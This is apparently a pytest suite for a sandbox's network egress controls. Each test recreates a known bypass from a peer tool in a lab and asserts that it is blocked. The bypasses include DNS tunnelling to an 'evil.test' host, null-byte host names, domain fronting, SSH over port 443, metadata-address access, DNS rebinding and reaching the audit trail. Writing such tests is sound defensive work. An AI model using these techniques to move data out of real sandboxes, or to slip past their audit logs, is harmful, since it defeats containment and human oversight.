"""Every egress bypass known of comparable tools, one test each, named for it; beside it what it got elsewhere.

The list is that of the research notes on peers ("EGRESS: exact mechanisms and known bypasses"), and the nineteen
checks of ``ipl-check``. Installs are tested with the installer.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator

import pytest

from sandbox.errors import SpecError
from sandbox.launch.egress.inside import reasons
from sandbox.policy.hosts import parse_rule
from tests.egress_lab import METADATA, Box, Lab, Prober, laboratory

pytestmark = [pytest.mark.engine, pytest.mark.anyio]

RULES = (
    "allowed.test",
    "http://allowed.test",
    "*.wild.test",
    "http://meta.test",
    "http://private.test",
    "http://rebind.test",
)


@pytest.fixture(scope="module")
def anyio_backend() -> str:
    """One loop for the module's lab."""
    return "asyncio"


@pytest.fixture(scope="module")
async def lab() -> AsyncIterator[Lab]:
    """The small internet."""
    async with laboratory(slot=48) as made:
        yield made


@pytest.fixture(scope="module")
async def box(lab: Lab) -> AsyncIterator[Box]:
    """A prober in a sandbox with egress."""
    async with lab.sandbox(*RULES) as made:
        yield made


@pytest.fixture(scope="module")
async def outsider(lab: Lab) -> Prober:
    """The same prober without a sandbox."""
    return await lab.outsider()


@pytest.fixture(autouse=True)
async def fresh(lab: Lab) -> None:
    """Forget earlier arrivals."""
    await lab.forget()


# --- ToolHive ---
@pytest.mark.claim("P-EGR-05")
async def test_toolhive_dns_tunnel_under_an_allow_list(box: Box, outsider: Prober, lab: Lab) -> None:
    """Its resolver answers every name, so data leaves in questions; here nobody outside hears one."""
    await outsider.error("resolve('aGVsbG8.tunnel.evil.test')")
    assert "agvsbg8.tunnel.evil.test" in {a["name"] for a in await lab.arrived("zone", "dns")}
    await lab.forget()

    for kind in (1, 5, 16, 28, 33, 65):
        assert (await box.value(f"dns('198.18.0.53', 'aGVsbG8.tunnel.evil.test', {kind})"))["code"] == 3
    assert await lab.arrived("zone") == []


async def test_toolhive_ptr_record_that_claims_an_allowed_name(box: Box, outsider: Prober, lab: Lab) -> None:
    """Squid looks an address up backwards; whoever owns the address then chooses its name. Nobody is asked here."""
    backwards = ".".join(reversed(lab.evil.split("."))) + ".in-addr.arpa"
    assert await outsider.value(f"dns({lab.resolver!r}, {backwards!r}, 12)") == {"code": 0, "answers": 1}
    await lab.forget()

    assert await box.error(f"tls({lab.evil!r}, sni='allowed.test')") in {"ECONNRESET", "ECONNREFUSED"}
    assert await lab.arrived() == []


@pytest.mark.claim("P-EGR-04")
@pytest.mark.parametrize("name", ["meta.test", "private.test"])
async def test_toolhive_allowed_name_pointed_to_a_private_address(name: str, box: Box, lab: Lab) -> None:
    """It has no floor below names; here the resolved address decides as well."""
    assert await box.error(f"http({name!r})") == "ECONNRESET"
    assert await lab.arrived("metadata") == []


@pytest.mark.claim("P-EGR-01")
async def test_toolhive_and_docker_gateway_no_permissions_means_none(lab: Lab, outsider: Prober) -> None:
    """There, absent or empty permissions left everything open; here an empty list is an empty list."""
    assert await outsider.value("http('allowed.test')")
    await lab.forget()

    async with lab.sandbox() as empty:
        assert await empty.error("http('allowed.test')") in {"GAI-2", "GAI-5"}
        assert await empty.error(f"tcp({lab.good!r}, 80)") == "ECONNREFUSED"
        assert await lab.arrived() == []


@pytest.mark.parametrize("entry", ["*", "*:443", "0.0.0.0/0:443", "*.com", ":443"])
async def test_toolhive_a_port_alone_is_any_host(entry: str) -> None:
    """There ``allow_port`` alone means every host; here no entry can say that."""
    with pytest.raises(SpecError):
        parse_rule(entry)


async def test_toolhive_any_protocol_to_an_allowed_host(box: Box, outsider: Prober, lab: Lab) -> None:
    """An opaque CONNECT carries SSH to port 443; here the port speaks TLS with the name, or nothing."""
    await outsider.value("connect('allowed.test', 443).close()")
    await lab.forget()

    assert await box.error("tcp('allowed.test', 443, b'SSH-2.0-tunnel\\r\\n')") == "ECONNRESET"
    assert await lab.arrived("good") == []


async def test_toolhive_proxy_variables_that_node_ignores(box: Box) -> None:
    """There a fetch without proxy support fails; here no variable is set and none is needed."""
    variables = await box.value("[name for name in os.environ if 'proxy' in name.lower()]")

    assert variables == []
    assert '"host": "good"' in await box.value("http('allowed.test')")


# --- Docker MCP gateway ---
@pytest.mark.claim("P-EGR-06")
async def test_docker_gateway_servers_share_network_and_proxies(lab: Lab) -> None:
    """There server A reaches B and B's proxy; here each has a namespace and rules of its own, whoever serves both."""
    async with lab.backend() as (backend, _):
        strict, wide = (
            await lab.launch(backend, ["http://allowed.test"]),
            await lab.launch(backend, ["http://evil.test"]),
        )
        assert '"host": "evil"' in await wide.value("http('evil.test')")
        address = (await wide.value("resolve('evil.test')"))[0]
        await lab.forget()

        assert await strict.error("http('evil.test')") in {"GAI-2", "GAI-5"}
        assert '"host": "good"' in await strict.value(f"http({address!r}, name='allowed.test')")
        assert await strict.error(f"http({address!r}, name='evil.test')") == "ECONNRESET"
        assert {a["host"] for a in await lab.arrived()} <= {"good", "zone"}
        for each in (strict, wide):
            await each.instance.stop(0)
            each.instance.stream.close()


async def test_docker_gateway_second_network_as_a_way_out(box: Box, lab: Lab) -> None:
    """There further networks stay attached; here the container has none, only its holder's namespace."""
    described = await lab.engine.inspect(box.instance.id)

    assert described["HostConfig"]["NetworkMode"] == box.attachment.network_mode
    assert not [n for n in (described["NetworkSettings"]["Networks"] or {}).values() if n.get("IPAddress")]


# --- sandbox-runtime ---
@pytest.mark.claim("P-EGR-09")
@pytest.mark.parametrize("name", ["evil.test\\x00.allowed.test", "evil.test\\x00.wild.test", "evil.test .wild.test"])
async def test_srt_null_byte_in_a_host_name(name: str, box: Box, lab: Lab) -> None:
    """There filter and dialler read the name differently; here it is one name, and not an allowed one."""
    assert (await box.value(f"dns('198.18.0.53', '{name}')"))["code"] == 3
    assert await lab.arrived() == []


async def test_srt_domain_fronting_with_a_warning(box: Box, outsider: Prober, lab: Lab) -> None:
    """There fronting is warned about; here it is reset before anything is dialled."""
    assert '"host": "good"' in await outsider.value("tls('allowed.test', sni='evil.test', inner='evil.test')")
    await lab.forget()

    assert await box.error("tls('allowed.test', sni='evil.test', inner='evil.test')") == "ECONNRESET"
    assert await lab.arrived("good") == []


# --- AWF ---
@pytest.mark.claim("P-EGR-01")
async def test_awf_direct_connection_to_an_address(box: Box, outsider: Prober, lab: Lab) -> None:
    """There an address in a CONNECT passes; here no address is a destination unless a rule names it."""
    assert await outsider.value(f"tcp({lab.evil!r}, 7777)") == "ping"
    await lab.forget()

    for port in (443, 80, 7777):
        assert await box.error(f"tcp({lab.evil!r}, {port})") in {"ECONNREFUSED", "ECONNRESET"}
    assert await lab.arrived() == []


# --- OpenShell ---
async def test_openshell_evidence_inside_the_sandbox(box: Box) -> None:
    """There the audit file lies where the agent can write; here nothing of the trail is in sight."""
    found = await box.value("[p for p in ('/run/egress', '/var/log') if os.path.isdir(p) and os.listdir(p)]")

    assert found == []
    assert await box.error("open('/proc/1/root/run/egress/broker.sock')") in {"ENOENT", "EACCES", "EPERM"}


async def test_openshell_rules_that_only_log(box: Box, lab: Lab) -> None:
    """There a rule above TCP defaults to logging; here every refusal is one."""
    assert await box.error("http('allowed.test', name='evil.test')") == "ECONNRESET"
    assert await lab.arrived("good") == []
    assert (await box.denied(reasons.HOST))["decision"] == "deny"


# --- microsandbox ---
@pytest.mark.parametrize("host", ["1.1.1.1", "dns.google", "cloudflare-dns.com"])
async def test_microsandbox_dns_over_https(host: str, box: Box, lab: Lab) -> None:
    """DoH is HTTPS to a host, so a host that no rule names does not answer it."""
    assert await box.error(f"tls({host!r}, sni={host!r}, path='/dns-query')") in {"ECONNRESET", "GAI-2", "GAI-5"}
    assert await lab.arrived() == []


# --- Kubernetes operators ---
async def test_kubernetes_cluster_dns_is_always_open(box: Box, lab: Lab) -> None:
    """There DNS to the cluster's resolver is allowed to everybody; here any resolver's address is the broker's."""
    assert (await box.value("dns('10.96.0.10', 'secret.evil.test')"))["code"] == 3
    assert (await box.value(f"dns({lab.resolver!r}, 'secret.evil.test', stream=True)"))["code"] == 3
    assert await lab.arrived("zone") == []


# --- ipl-check ---
@pytest.mark.parametrize(
    ("check", "probe", "passes"),
    [
        ("allowed-http", "http('allowed.test')", True),
        ("allowed-https", "tls('allowed.test', sni='allowed.test')", True),
        ("blocked-host-connect", "tls('evil.test', sni='evil.test')", False),
        ("blocked-host-http", "http('evil.test')", False),
        ("direct-ip-connect", "tcp('1.1.1.1', 443)", False),
        ("loopback-v4", "tcp('127.0.0.1', 80)", False),
        ("loopback-v6", "tcp('::1', 80)", False),
        ("rfc1918", "tcp('10.0.0.1', 80)", False),
        ("link-local", "tcp('169.254.1.1', 80)", False),
        ("metadata", f"http('{METADATA}')", False),
        ("private-ipv6", "tcp('fd00::1', 80)", False),
        ("dns-private-v4", "http('private.test')", False),
        ("dns-private-v6", "http('meta.test')", False),
        ("ptr-allowlist", "tcp('EVIL', 443)", False),
        ("connect-sni-mismatch", "tls('allowed.test', sni='evil.test')", False),
        ("connect-raw-tunnel", "tcp('allowed.test', 443, b'raw')", False),
    ],
)
async def test_ipl_check(check: str, probe: str, passes: bool, box: Box, lab: Lab) -> None:
    """The checks of the public list, each with the verdict that it demands."""
    answer = await box.ask(probe.replace("EVIL", lab.evil))

    assert ("error" not in answer) is passes, f"{check}: {answer}"
    assert [a for a in await lab.arrived() if a["host"] in {"evil", "metadata"}] == []


async def test_ipl_check_dns_rebinding(box: Box, lab: Lab) -> None:
    """A name that answers publicly once and with metadata afterwards never leads to the metadata decoy."""
    for _ in range(5):
        await box.ask("http('rebind.test')")

    assert await lab.arrived("metadata") == []


async def test_ipl_check_concurrency(box: Box, lab: Lab) -> None:
    """Fifty connections at once, allowed and denied mixed, each get their own verdict."""
    threads = (
        "(lambda pool: [list(pool.map(lambda n: (http('allowed.test')[:15] if n % 2 else str(timed(lambda: "
        "tcp('1.1.1.1', 443)))[:0]), range(50)))])(__import__('concurrent.futures').futures.ThreadPoolExecutor(50))[0]"
    )
    found = await asyncio.wait_for(box.value(threads), 60)

    assert found.count("HTTP/1.1 200 OK") == 25
    assert [a for a in await lab.arrived() if a["host"] in {"evil", "metadata"}] == []
